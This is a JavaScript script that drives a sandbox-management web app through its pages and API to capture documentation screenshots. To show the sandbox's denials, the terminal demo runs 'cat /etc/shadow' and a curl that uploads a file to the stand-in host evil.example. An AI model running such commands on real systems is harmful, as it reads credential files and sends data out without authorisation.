// Pictures of the main pages, as a new user comes by them; kept under docs/screens. The daemon, the sandboxes and what they
// print are real.
import { api, flow, given, signInByLink, tell, tokenOf } from './harness.mjs'
import { ready, run } from './terminal.mjs'
import { injectWallet, newWallet } from './wallets.mjs'

const KEYED = 'profile: 1\nname: reader\nextends: medium\nsecrets: [GITHUB_TOKEN]\nnetwork:\n  allow:\n    - {host: api.github.com, methods: [GET], secret: GITHUB_TOKEN}\n'
/** What is there when a tab is. */
const THERE = { files: '.files-row', runs: '.runs-row', ports: '.port-other', activity: '.event-denied', policy: '.policy-sides', secrets: '.secret', snapshots: '.moment', usage: 'canvas' }
const BLUE = 'data:image/svg+xml,%3Csvg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"%3E%3Ccircle cx="4" cy="4" r="4" fill="%232f6fe0"/%3E%3C/svg%3E'
const DARK = { colorScheme: 'dark' }
const PHONE = { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true, deviceScaleFactor: 2 }

async function shot(page, name) {
  await page.mouse.move(0, 0)
  await page.evaluate(() => (scrollTo(0, 0), document.fonts.ready))
  await page.locator('.skeleton').first().waitFor({ state: 'detached' })
  await page.screenshot({ path: `${given.folder}/${name}.png`, animations: 'disabled' })
}

await flow(async ({ visitor }) => {
  const guest = await visitor()
  await injectWallet(guest.context, newWallet(), { name: 'Fox Wallet' })
  await injectWallet(guest.context, newWallet(), { name: 'Blue Wallet', icon: BLUE })
  await guest.page.goto('/')
  await guest.page.getByRole('button', { name: 'Blue Wallet' }).waitFor()
  await shot(guest.page, 'sign-in')
  await guest.page.getByRole('button', { name: 'Fox Wallet' }).click()
  await guest.page.getByLabel('The text to be signed').waitFor()
  await shot(guest.page, 'sign-in-wallet')

  const { page } = await visitor()
  await signInByLink(page)
  await page.getByRole('button', { name: 'New sandbox' }).waitFor()
  await shot(page, 'first')
  const token = await tokenOf(page)
  const make = async (options) => (await api(token, 'POST', '/api/sandboxes', options)).id
  const id = await make({ profile: 'medium', name: 'agent-7', allow: ['packages.example.org'] })
  const exec = (command, more = {}) => api(token, 'POST', `/api/sandboxes/${id}/exec`, { command, ...more })

  // somebody works in it, and it tries what it may not
  await page.goto(`/sandboxes/${id}/terminals`)
  await ready(page)
  await run(page, 'id', 'uid=1000')
  await run(page, 'echo "hello from inside" > note.txt; ls -l', 'note.txt')
  await run(page, 'cat /etc/shadow', 'No such file')
  await run(page, 'curl -sS https://evil.example/upload -d @note.txt', 'response 403')
  await run(page, 'tail -n 1 /run/stockade/denials', 'no rule in')
  await shot(page, 'terminal')

  await exec('mkdir -p src; printf \'def greet(name):\\n    return f"hello {name}"\\n\\nprint(greet("world"))\\n\' > src/main.py; printf "# Notes\\n" > README.md')
  await exec('python3 src/main.py')
  await exec('seq 1 400 | sha256sum')
  await exec('cat missing.txt')
  await exec('python3 -m http.server 8000', { background: true })
  await exec('while :; do :; done', { background: true, timeout_ms: 20_000 })
  for (const host of ['tracker.example', 'evil.example']) await exec(`curl -sS -m 20 http://${host}/`)
  await api(token, 'POST', `/api/sandboxes/${id}/snapshot`, { name: 'clean' })
  await exec('echo "one more line" >> README.md')
  await api(token, 'POST', `/api/sandboxes/${id}/snapshot`, { name: 'with-notes' })
  const keyed = await make({ profile_text: KEYED, name: 'reader', secrets: { GITHUB_TOKEN: 'not-a-real-one' } })
  for (const [i, name] of ['data-cleaning', 'nightly-tests', 'notebook', 'pull-request-412'].entries()) {
    const made = await make({ profile: i % 2 ? 'medium' : 'low', name })
    if (name === 'nightly-tests') await api(token, 'POST', `/api/sandboxes/${made}/stop`, {})
    if (name === 'pull-request-412') await api(token, 'POST', `/api/sandboxes/${made}/pause`, {})
  }
  await page.goto('/sandboxes')
  await page.getByText('nightly-tests').waitFor()
  await page.locator('.box', { hasText: 'agent-7' }).locator('.sparkline').first().waitFor()
  await shot(page, 'sandboxes')
  await page.goto('/create')
  await page.locator('.summary-text[aria-busy=false]').getByText('It reaches nothing').waitFor()
  await shot(page, 'create')
  for (const tab of given.tabs) {
    await page.goto(`/sandboxes/${tab === 'secrets' ? keyed : id}/${tab}`)
    await page.locator(`#panel-${tab}`).locator(THERE[tab]).first().waitFor()
    await page.waitForFunction((id) => document.getElementById(id)?.textContent.length > 20 && !document.querySelector('.skeleton'), `panel-${tab}`)
    if (tab === 'runs') await page.locator('.runs-row', { hasText: 'src/main.py' }).filter({ hasNotText: 'mkdir' }).first().click().then(() => page.getByRole('list', { name: 'Output' }).getByText('hello world').waitFor())
    if (tab === 'activity') await page.getByText(/^Signature checked to \d+$/).waitFor()
    await shot(page, tab)
  }
  await page.goto(`/sandboxes/${id}/activity`)
  await page.locator('.event-denied').first().click()
  await page.getByRole('dialog').getByText('How to allow').waitFor()
  await shot(page, 'denial')

  const dark = await visitor(DARK)
  await signInByLink(dark.page)
  await dark.page.getByText('nightly-tests').waitFor()
  await shot(dark.page, 'sandboxes-dark')
  await dark.page.goto(`/sandboxes/${id}/terminals`)
  await dark.page.locator('.xterm-rows').first().getByText('response 403').first().waitFor()
  await shot(dark.page, 'terminal-dark')
  await dark.page.goto('/create')
  await dark.page.locator('.summary-text[aria-busy=false]').getByText('It reaches nothing').waitFor()
  await shot(dark.page, 'create-dark')

  const phone = await visitor(PHONE)
  await signInByLink(phone.page)
  await phone.page.getByText('nightly-tests').waitFor()
  await shot(phone.page, 'sandboxes-phone')
  await phone.page.goto(`/sandboxes/${id}/terminals`)
  await phone.page.locator('.xterm-rows').first().getByText('response 403').first().waitFor()
  await shot(phone.page, 'terminal-phone')

  const operator = await visitor()
  await operator.page.goto(await tell('link', { operator: true }))
  await operator.page.getByRole('link', { name: 'Operator' }).click()
  await operator.page.getByRole('heading').first().waitFor()
  await operator.page.getByText('Promised to sandboxes').waitFor()
  await shot(operator.page, 'operator')
})
